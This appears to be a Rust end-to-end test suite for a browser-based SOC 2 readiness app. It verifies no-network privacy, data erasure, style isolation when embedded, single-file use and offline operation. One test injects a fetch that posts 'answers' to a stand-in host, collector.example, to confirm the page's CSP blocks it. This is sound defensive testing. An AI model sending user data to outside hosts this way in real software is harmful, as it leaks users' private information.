//! End-to-end proof of the privacy, embedding and offline promises, in
//! headless Chromium against the built `dist/` and `dist-single/`.
//!
//! Every network request is recorded three ways: the static server logs each
//! path it is asked for, the page's Resource Timing entries list everything
//! the document fetched (even from the service worker's cache), and
//! Chromium's DevTools network log lists every request the page started. A
//! script installed before any page script records Content-Security-Policy
//! violations.
//!
//! Needs `./setup.sh single-file` first (`./setup.sh test` does it) and
//! chromedriver on PATH. Run: `cargo test --features e2e --test e2e_privacy`.

use fantoccini::wd::WebDriverCompatibleCommand;
use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::{Value, json};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

// ---------------------------------------------------------------- helpers

fn project_file(rel: &str) -> PathBuf {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(rel);
    assert!(
        path.is_file(),
        "{rel} is missing: run `./setup.sh single-file` first"
    );
    path
}

fn dist_dir() -> PathBuf {
    project_file("dist/index.html")
        .parent()
        .unwrap()
        .to_path_buf()
}

/// Serves `dist/` on 127.0.0.1 and logs every path asked for. While
/// `offline` is set it answers 503 to everything, like a dead server.
struct StaticServer {
    url: String,
    requests: Arc<Mutex<Vec<String>>>,
    offline: Arc<AtomicBool>,
}

impl StaticServer {
    fn request_count(&self) -> usize {
        self.requests.lock().unwrap().len()
    }
}

fn serve(root: PathBuf) -> StaticServer {
    let server = tiny_http::Server::http("127.0.0.1:0").expect("bind 127.0.0.1");
    let port = server.server_addr().to_ip().expect("ip address").port();
    let requests = Arc::new(Mutex::new(Vec::new()));
    let offline = Arc::new(AtomicBool::new(false));
    let (log, down) = (requests.clone(), offline.clone());
    std::thread::spawn(move || {
        for request in server.incoming_requests() {
            let path = request.url().split('?').next().unwrap_or("/").to_owned();
            log.lock().unwrap().push(path.clone());
            if down.load(Ordering::SeqCst) {
                let _ = request.respond(tiny_http::Response::empty(503));
                continue;
            }
            let rel = if path.ends_with('/') {
                "index.html"
            } else {
                path.trim_start_matches('/')
            };
            let file = root.join(rel);
            let inside = file
                .canonicalize()
                .map(|f| f.starts_with(&root))
                .unwrap_or(false);
            let response = match std::fs::read(&file) {
                Ok(bytes) if inside => {
                    let mime = match file.extension().and_then(|e| e.to_str()) {
                        Some("html") => "text/html; charset=utf-8",
                        Some("js") => "text/javascript",
                        Some("wasm") => "application/wasm",
                        Some("css") => "text/css",
                        Some("json") => "application/json",
                        _ => "application/octet-stream",
                    };
                    let header = tiny_http::Header::from_bytes("Content-Type", mime).unwrap();
                    tiny_http::Response::from_data(bytes).with_header(header)
                }
                _ => tiny_http::Response::from_data(b"not found".to_vec()).with_status_code(404),
            };
            let _ = request.respond(response);
        }
    });
    StaticServer {
        url: format!("http://127.0.0.1:{port}/"),
        requests,
        offline,
    }
}

/// chromedriver on a free port, killed when dropped.
struct Driver {
    child: Child,
    port: u16,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_driver() -> Driver {
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let child =
        Command::new(std::env::var("CHROMEDRIVER").unwrap_or_else(|_| "chromedriver".into()))
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("chromedriver on PATH (./setup.sh test installs it)");
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "chromedriver did not start");
        std::thread::sleep(Duration::from_millis(50));
    }
    Driver { child, port }
}

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("soc2r-e2e-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A Chromium DevTools or chromedriver command WebDriver itself lacks.
#[derive(Debug)]
struct Raw {
    path: &'static str,
    body: Value,
}

impl WebDriverCompatibleCommand for Raw {
    fn endpoint(
        &self,
        base_url: &url::Url,
        session_id: Option<&str>,
    ) -> Result<url::Url, url::ParseError> {
        base_url.join(&format!(
            "session/{}/{}",
            session_id.unwrap_or_default(),
            self.path
        ))
    }

    fn method_and_body(&self, _: &url::Url) -> (http::Method, Option<String>) {
        (http::Method::POST, Some(self.body.to_string()))
    }
}

/// Recorded in every document (and frame) before its own scripts run.
const RECORD_VIOLATIONS: &str = "window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__cspViolations.push(e.effectiveDirective + ' blocked ' + (e.blockedURI || 'inline'));
});";

/// A fresh browser profile named `name`, downloading into `downloads`.
async fn browser(driver: &Driver, name: &str, downloads: &Path) -> Client {
    let profile = temp_dir(&format!("profile-{name}"));
    let caps = json!({
        "goog:loggingPrefs": { "performance": "ALL" },
        "goog:chromeOptions": {
            "args": [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run",
                "--window-size=1280,900", format!("--user-data-dir={}", profile.display()),
            ],
            "perfLoggingPrefs": { "enableNetwork": true, "enablePage": false },
            "prefs": {
                "download.default_directory": downloads.display().to_string(),
                "download.prompt_for_download": false,
            },
        }
    });
    let Value::Object(caps) = caps else {
        unreachable!()
    };
    let c = ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
        .capabilities(caps)
        .connect(&format!("http://127.0.0.1:{}", driver.port))
        .await
        .expect("a WebDriver session");
    c.issue_cmd(Raw {
        path: "goog/cdp/execute",
        body: json!({
            "cmd": "Page.addScriptToEvaluateOnNewDocument",
            "params": { "source": RECORD_VIOLATIONS },
        }),
    })
    .await
    .expect("DevTools: record CSP violations");
    c
}

/// Addresses of every request the page started since the last call,
/// from Chromium's DevTools network log.
async fn network_log(c: &Client) -> Vec<String> {
    let entries = c
        .issue_cmd(Raw {
            path: "se/log",
            body: json!({ "type": "performance" }),
        })
        .await
        .expect("the DevTools network log");
    entries
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|e| serde_json::from_str::<Value>(e["message"].as_str()?).ok())
        .filter(|m| m["message"]["method"] == "Network.requestWillBeSent")
        .filter_map(|m| {
            m["message"]["params"]["request"]["url"]
                .as_str()
                .map(str::to_owned)
        })
        .collect()
}

/// Requests that can leave the machine. Others stay inside it: `data:` and
/// `blob:` are in memory (an export is a `blob:` download), `file:` is the
/// disk, `chrome:` is the browser's own new-tab page before the test starts.
fn over_the_network(urls: &[String]) -> Vec<String> {
    urls.iter()
        .filter(|u| {
            ["http:", "https:", "ws:", "wss:"]
                .iter()
                .any(|s| u.starts_with(s))
        })
        .cloned()
        .collect()
}

async fn run(c: &Client, script: &str) -> Value {
    c.execute(script, vec![])
        .await
        .unwrap_or_else(|e| panic!("script failed: {e}\n{script}"))
}

async fn csp_violations(c: &Client) -> Vec<String> {
    serde_json::from_value(run(c, "return window.__cspViolations || null;").await)
        .expect("the violation recorder is installed")
}

/// What the document fetched: Resource Timing entries (served from the
/// network or from the service worker's cache alike).
async fn resources(c: &Client) -> Vec<String> {
    serde_json::from_value(
        run(
            c,
            "return performance.getEntriesByType('resource').map((e) => e.name);",
        )
        .await,
    )
    .unwrap()
}

/// Polls until `check` holds; the wait bounds a hang, it is not a speed test.
async fn eventually<F, Fut>(what: &str, mut check: F)
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = bool>,
{
    let deadline = Instant::now() + Duration::from_secs(15);
    while !check().await {
        assert!(Instant::now() < deadline, "timed out waiting for: {what}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn text(c: &Client, css: &str) -> String {
    match c.find(Locator::Css(css)).await {
        Ok(el) => el.text().await.unwrap_or_default(),
        Err(_) => String::new(),
    }
}

async fn pressed(c: &Client, css: &str) -> bool {
    match c.find(Locator::Css(css)).await {
        Ok(el) => el.attr("aria-pressed").await.ok().flatten().as_deref() == Some("true"),
        Err(_) => false,
    }
}

async fn click(c: &Client, css: &str) {
    c.wait()
        .for_element(Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("no `{css}`: {e}"))
        .click()
        .await
        .unwrap_or_else(|e| panic!("could not click `{css}`: {e}"));
}

async fn count(c: &Client, css: &str) -> usize {
    c.find_all(Locator::Css(css)).await.unwrap().len()
}

/// The file downloaded into `dir` whose name ends with `suffix`.
async fn downloaded(dir: &Path, suffix: &str) -> PathBuf {
    let mut found = None;
    eventually("a download", || {
        found = std::fs::read_dir(dir)
            .unwrap()
            .filter_map(|e| e.ok().map(|e| e.path()))
            .find(|p| p.to_string_lossy().ends_with(suffix));
        let done = found.is_some();
        async move { done }
    })
    .await;
    found.unwrap()
}

/// From the home screen: a new full assessment, through the scope screen,
/// to the questionnaire. Returns the selector of the first question's
/// "Ready" button.
async fn start_assessment(c: &Client) -> String {
    click(c, "#start-full").await;
    c.wait()
        .for_element(Locator::Css("#scope-heading"))
        .await
        .unwrap();
    click(c, ".soc2r-scope a.primary").await;
    let card = c
        .wait()
        .for_element(Locator::Css(".soc2r-question"))
        .await
        .unwrap();
    let qid = card.attr("id").await.unwrap().expect("question ids");
    format!("#{qid} button[data-status=ready]")
}

/// Answers "Ready" and waits for the score to move.
async fn answer_ready(c: &Client, ready: &str) {
    assert_eq!(text(c, "#overall-readiness").await, "0%");
    click(c, ready).await;
    eventually("the score to change", || async {
        text(c, "#overall-readiness").await != "0%"
    })
    .await;
    assert!(pressed(c, ready).await);
}

/// Waits until a service worker controls the page (it has cached the app).
async fn service_worker_in_control(c: &Client) {
    let controlled = c
        .execute_async(
            "const done = arguments[arguments.length - 1];
             navigator.serviceWorker.ready.then(() => {
               if (navigator.serviceWorker.controller) { done(true); return; }
               navigator.serviceWorker.addEventListener('controllerchange', () => done(true));
             });",
            vec![],
        )
        .await
        .expect("a service worker");
    assert_eq!(controlled, json!(true));
}

/// Local-storage keys of this page's origin.
async fn storage_keys(c: &Client) -> Vec<String> {
    serde_json::from_value(run(c, "return Object.keys(localStorage).sort();").await).unwrap()
}

// ------------------------------------------------------------------ tests

#[tokio::test(flavor = "multi_thread")]
async fn a_full_user_path_makes_no_request_and_nothing_can_leave() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-path");
    let c = browser(&driver, "path", &downloads).await;

    // The initial load: the app's own files, and the service worker caching them.
    c.goto(&server.url).await.unwrap();
    c.wait()
        .for_element(Locator::Css(".soc2r-welcome"))
        .await
        .unwrap();
    service_worker_in_control(&c).await;
    let loaded = over_the_network(&network_log(&c).await);
    assert!(!loaded.is_empty(), "the network log records requests");
    assert!(
        loaded.iter().all(|u| u.starts_with(&server.url)),
        "the initial load stays on the app's own server: {loaded:#?}"
    );
    let (served_before, fetched_before) = (server.request_count(), resources(&c).await);

    // Start, answer, export from the list, import the file, open the report.
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    click(&c, ".soc2r-header nav a[href='#/']").await;
    click(&c, ".soc2r-item button.export").await;
    let exported = downloaded(&downloads, ".soc2.json").await;
    c.find(Locator::Css("#import-file"))
        .await
        .unwrap()
        .send_keys(&exported.display().to_string())
        .await
        .unwrap();
    click(&c, "#import-as-new").await;
    eventually("the import notice", || async {
        text(&c, ".soc2r-notices").await.contains("Imported")
    })
    .await;
    click(&c, ".tabs a[href$='/report']").await;
    c.wait()
        .for_element(Locator::Css(".tabs a[href$='/report'][aria-current]"))
        .await
        .unwrap();

    // Nothing was requested on the way: not from the server, not by the
    // document (even from the service worker's cache), not by the browser.
    let served = server.requests.lock().unwrap()[served_before..].to_vec();
    assert!(
        served.is_empty(),
        "requests during the user path: {served:?}"
    );
    assert_eq!(
        resources(&c).await,
        fetched_before,
        "the document fetched nothing more"
    );
    let during = over_the_network(&network_log(&c).await);
    assert!(during.is_empty(), "network requests: {during:?}");
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    let all = resources(&c).await;
    assert!(
        all.iter().all(|u| u.starts_with(&server.url)),
        "every file came from the app's own server: {all:?}"
    );

    // And the policy is in force: a request to another site is refused.
    let attempt = c
        .execute_async(
            "const done = arguments[arguments.length - 1];
             fetch('https://collector.example/beacon', { method: 'POST', body: 'answers' })
               .then(() => done('sent'), () => done('refused'));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(attempt, json!("refused"));
    let violations = csp_violations(&c).await;
    assert_eq!(violations.len(), 1, "{violations:?}");
    assert!(
        violations[0].starts_with("connect-src blocked https://collector.example"),
        "{violations:?}"
    );
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn erase_all_my_data_removes_every_record_after_a_confirmation() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-erase");
    let c = browser(&driver, "erase", &downloads).await;

    c.goto(&server.url).await.unwrap();
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    // An unreadable record of ours, and another app's key on the same site.
    run(
        &c,
        "localStorage.setItem('soc2r/v1/assessment/broken', '{not json');
         localStorage.setItem('other-app/settings', 'keep me');",
    )
    .await;
    c.refresh().await.unwrap();
    c.wait()
        .for_element(Locator::Css(".soc2r-notices .notice.error"))
        .await
        .unwrap();

    click(&c, ".soc2r-header nav a[href='#/privacy']").await;
    let usage = text(&c, "#storage-usage").await;
    assert!(
        usage.contains("2 keys stored in this browser under soc2r/"),
        "{usage}"
    );
    let page = text(&c, ".soc2r-privacy").await;
    assert!(page.contains("soc2r/v1/assessment/{id}"), "{page}");

    // A second thought: cancelling keeps everything.
    click(&c, "#erase-all").await;
    let question = text(&c, "#erase-question").await;
    assert!(question.contains("Erase 2 keys"), "{question}");
    click(&c, "#erase-cancel").await;
    assert_eq!(count(&c, "#erase-confirm").await, 0);
    assert_eq!(storage_keys(&c).await.len(), 3);

    // Confirmed: the keys are gone and the page reloads empty.
    click(&c, "#erase-all").await;
    run(&c, "window.__beforeErase = true;").await;
    click(&c, "#erase-confirm").await;
    eventually("the page to reload", || async {
        c.execute("return window.__beforeErase === undefined && document.querySelector('#storage-usage') !== null;", vec![])
            .await
            .map(|v| v == json!(true))
            .unwrap_or(false)
    })
    .await;
    assert_eq!(
        text(&c, "#storage-usage").await,
        "Nothing is stored in this browser under soc2r/."
    );
    assert_eq!(storage_keys(&c).await, vec!["other-app/settings"]);
    assert_eq!(count(&c, ".soc2r-notices .notice").await, 0);
    click(&c, ".soc2r-header nav a[href='#/']").await;
    c.wait()
        .for_element(Locator::Css(".soc2r-welcome"))
        .await
        .unwrap();
    assert_eq!(count(&c, ".soc2r-item").await, 0);
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    c.close().await.unwrap();
}

/// Computed styles of host page elements that an embedded app could spoil.
const HOST_STYLES: &str = "
const props = ['color', 'background-color', 'font-family', 'font-size', 'font-weight',
  'line-height', 'letter-spacing', 'text-transform', 'text-align', 'margin-top', 'margin-bottom',
  'padding-top', 'padding-left', 'border-top-width', 'border-top-left-radius', 'box-sizing', 'display'];
return ['#host-title', '#host-intro', '#host-button', '#host-link'].map((sel) => {
  const style = getComputedStyle(document.querySelector(sel));
  return sel + ' ' + props.map((p) => p + ':' + style.getPropertyValue(p)).join('; ');
});";

#[tokio::test(flavor = "multi_thread")]
async fn a_vendor_page_embeds_the_app_without_either_spoiling_the_other() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-embed");
    let c = browser(&driver, "embed", &downloads).await;

    c.goto(&format!("{}embed-sample.html", server.url))
        .await
        .unwrap();
    c.wait()
        .for_element(Locator::Css("#soc2-readiness > .soc2r-app .soc2r-welcome"))
        .await
        .unwrap();
    // Mounted in the vendor's element, once, configured by its attributes.
    assert_eq!(count(&c, ".soc2r-app").await, 1);
    assert_eq!(count(&c, "body > .soc2r-app").await, 0);
    assert_eq!(
        text(&c, ".soc2r-app h1").await,
        "Acme Audit: SOC 2 readiness check"
    );
    let styles_with_app: Vec<String> = serde_json::from_value(run(&c, HOST_STYLES).await).unwrap();

    // The vendor's h1 and button rules do not reach into the app...
    let look: Vec<String> = serde_json::from_value(
        run(
            &c,
            "const h = getComputedStyle(document.querySelector('.soc2r-app h1'));
             const b = getComputedStyle(document.querySelector('.soc2r-app #start-full'));
             const host = getComputedStyle(document.querySelector('#host-title'));
             return [h.textTransform, h.letterSpacing, String(h.fontFamily === host.fontFamily),
                     b.textTransform, b.backgroundColor, b.borderTopLeftRadius];",
        )
        .await,
    )
    .unwrap();
    assert_eq!(
        look,
        [
            "none",
            "normal",
            "false",
            "none",
            "rgb(139, 30, 63)", // data-brand-colour, not the host's button colour
            "6.4px",
        ]
    );

    // ...and the app works there: answer a question.
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    let keys = storage_keys(&c).await;
    assert!(
        !keys.is_empty() && keys.iter().all(|k| k.starts_with("acme-soc2/v1/")),
        "stored under the vendor's namespace: {keys:?}"
    );

    // The host elements look exactly as they do without the app at all.
    run(
        &c,
        "document.querySelector('link[href=\"./app.css\"]').disabled = true;
         document.querySelector('#soc2-readiness').remove();",
    )
    .await;
    let styles_without_app: Vec<String> =
        serde_json::from_value(run(&c, HOST_STYLES).await).unwrap();
    assert_eq!(styles_with_app, styles_without_app);
    assert!(
        styles_with_app[0].contains("text-transform:uppercase"),
        "the host's own rules apply: {}",
        styles_with_app[0]
    );

    // The isolated embed: the same app in an iframe.
    eventually("the app inside the iframe", || async {
        c.execute(
            "const d = document.querySelector('iframe').contentDocument;
             return d !== null && d.querySelector('.soc2r-app .soc2r-welcome') !== null;",
            vec![],
        )
        .await
        .map(|v| v == json!(true))
        .unwrap_or(false)
    })
    .await;

    // Nothing went anywhere but the app's own files, and the host's strict
    // CSP (in the sample page) was never violated, by either embed.
    let log = over_the_network(&network_log(&c).await);
    assert!(
        log.iter().all(|u| u.starts_with(&server.url)),
        "requests: {log:#?}"
    );
    let frame_fetches: Vec<String> = serde_json::from_value(
        run(
            &c,
            "return document.querySelector('iframe').contentWindow.performance
               .getEntriesByType('resource').map((e) => e.name);",
        )
        .await,
    )
    .unwrap();
    for u in resources(&c).await.iter().chain(&frame_fetches) {
        assert!(u.starts_with(&server.url), "fetched from elsewhere: {u}");
    }
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    let frame_violations = run(
        &c,
        "return document.querySelector('iframe').contentWindow.__cspViolations;",
    )
    .await;
    assert_eq!(frame_violations, json!([]));
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn the_single_file_works_from_disk_with_storage_and_files() {
    let page = project_file("dist-single/soc2-readiness.html");
    let driver = start_driver();
    let downloads = temp_dir("downloads-single");
    let c = browser(&driver, "single", &downloads).await;
    let address = format!("file://{}", page.display());

    c.goto(&address).await.unwrap();
    c.wait()
        .for_element(Locator::Css(".soc2r-welcome"))
        .await
        .unwrap();
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    let score = text(&c, "#overall-readiness").await;

    // Reload from disk: the answer was kept in local storage.
    c.refresh().await.unwrap();
    c.wait().for_element(Locator::Css(&ready)).await.unwrap();
    assert!(pressed(&c, &ready).await, "answer kept after reload");
    assert_eq!(text(&c, "#overall-readiness").await, score);

    // Export and import work without any server.
    click(&c, ".soc2r-header nav a[href='#/']").await;
    click(&c, ".soc2r-item button.export").await;
    let exported = downloaded(&downloads, ".soc2.json").await;
    c.find(Locator::Css("#import-file"))
        .await
        .unwrap()
        .send_keys(&exported.display().to_string())
        .await
        .unwrap();
    click(&c, "#import-as-new").await;
    eventually("the import notice", || async {
        text(&c, ".soc2r-notices").await.contains("Imported")
    })
    .await;
    click(&c, ".soc2r-header nav a[href='#/']").await;
    eventually("two assessments", || async {
        count(&c, ".soc2r-item").await == 2
    })
    .await;

    // One file, nothing fetched, nothing blocked.
    assert_eq!(resources(&c).await, Vec::<String>::new());
    let log = over_the_network(&network_log(&c).await);
    assert!(log.is_empty(), "network requests: {log:?}");
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn after_one_visit_the_app_works_with_the_server_gone() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-offline");
    let c = browser(&driver, "offline", &downloads).await;

    c.goto(&server.url).await.unwrap();
    c.wait()
        .for_element(Locator::Css(".soc2r-welcome"))
        .await
        .unwrap();
    service_worker_in_control(&c).await;

    // The server dies; the next visit still gets the whole app.
    server.offline.store(true, Ordering::SeqCst);
    c.refresh().await.unwrap();
    c.wait()
        .for_element(Locator::Css(".soc2r-welcome"))
        .await
        .unwrap();
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    c.refresh().await.unwrap();
    c.wait().for_element(Locator::Css(&ready)).await.unwrap();
    assert!(
        pressed(&c, &ready).await,
        "answer kept after an offline reload"
    );
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    c.close().await.unwrap();
}
